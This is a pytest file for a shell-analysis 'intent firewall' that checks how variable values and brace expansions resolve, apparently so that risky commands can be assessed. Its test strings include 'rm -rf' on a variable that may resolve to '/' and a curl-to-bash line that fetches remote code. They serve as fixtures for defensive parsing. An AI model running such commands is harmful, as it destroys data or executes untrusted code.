"""Shell values the line's own text fixes (``aegis.intent_firewall.shellvalues``)."""

from __future__ import annotations

import pytest
import tree_sitter
import tree_sitter_bash

from aegis.intent_firewall.shell import parse_script
from aegis.intent_firewall.shellvalues import MAX_BRACE_WORDS, fed_loops, known_braces
from aegis.intent_firewall.words import Word


def _words(line: str) -> list[list[str]]:
    """Each command's words as the walk resolved them (``?`` for an unknown value)."""
    script = parse_script(line, "/w", {"PWD": "/w", "HOME": "/home/u", "IFS": " "}, 10000)
    return [[w.value if w.value is not None else "?" for w in c.words] for c in script.commands]


def _constructs(line: str) -> list[str]:
    script = parse_script(line, "/w", {"PWD": "/w", "HOME": "/home/u", "IFS": " "}, 10000)
    return [c for command in script.commands for w in command.words for c in w.constructs]


def test_a_complete_brace_expansion_is_known() -> None:
    word = Word("./{a,b}", "./{a,b}", ("./a", "./b"), ["brace expansion ./{a,b}"])
    assert known_braces(word)


@pytest.mark.parametrize(
    "word",
    [
        Word("x{1..99}", "x{1..99}", tuple(f"x{n}" for n in range(MAX_BRACE_WORDS + 1)), ["b"]),
        Word("$a{b,c}", None, (), ["parameter expansion $a", "brace expansion $a{b,c}"]),
        Word("./{a,b}", "./{a,b}", ("./{a,b}",), ["brace expansion ./{a,b}"]),
        Word("{a,$(x)}", "{a,}", ("a", ""), ["brace expansion {a,$(x)}"], [object()]),
    ],
    ids=["too-many", "unknown-part", "left-folded", "substitution"],
)
def test_an_incomplete_or_mixed_brace_expansion_is_not(word: Word) -> None:
    assert not known_braces(word)


def test_a_top_level_literal_binds_from_its_statement_on() -> None:
    assert _words('d=dist; rm -rf "$d"')[-1] == ["rm", "-rf", "dist"]
    assert _constructs('d=dist && rm -rf "$d"') == []
    assert _constructs('rm -rf "$d"; d=dist') != []  # used before it is assigned


@pytest.mark.parametrize(
    "line",
    [
        'd=dist; d=/; rm -rf "$d"',
        'd=dist; true || d=/; rm -rf "$d"',
        '(d=dist); rm -rf "$d"',
        'd=dist & rm -rf "$d"',
        'd=dist | cat; rm -rf "$d"',
        'd=dist; for i in 1; do d=/; done; rm -rf "$d"',
        'd=dist; read -r d; rm -rf "$d"',
        'd=dist; eval "$x"; rm -rf "$d"',
        'd=$(cat f); rm -rf "$d"',
        'IFS=/; rm -rf "$IFS"',
    ],
)
def test_an_uncertain_value_stays_an_expansion(line: str) -> None:
    assert any(c.startswith("parameter expansion") for c in _constructs(line))


def test_a_loop_fed_by_a_process_substitution_becomes_a_pipeline() -> None:
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    source = b'while read -r f; do wc -l "$f"; done < <(git ls-files) > out.txt'
    rewritten = fed_loops(parser.parse(source).root_node, source)
    assert rewritten == b'git ls-files | while read -r f; do wc -l "$f"; done > out.txt'


@pytest.mark.parametrize(
    "source",
    [
        b"bash < <(curl -s https://example.invalid)",
        b'while read -r f; do wc -l "$f"; done 3< <(git ls-files)',
        b'while read -r f; do wc -l "$f"; done < <(git ls-files) < other.txt',
        b'while read -r f; do wc -l "$f"; done < <(a; b)',
    ],
)
def test_other_process_substitutions_are_left_alone(source: bytes) -> None:
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    assert fed_loops(parser.parse(source).root_node, source) is None
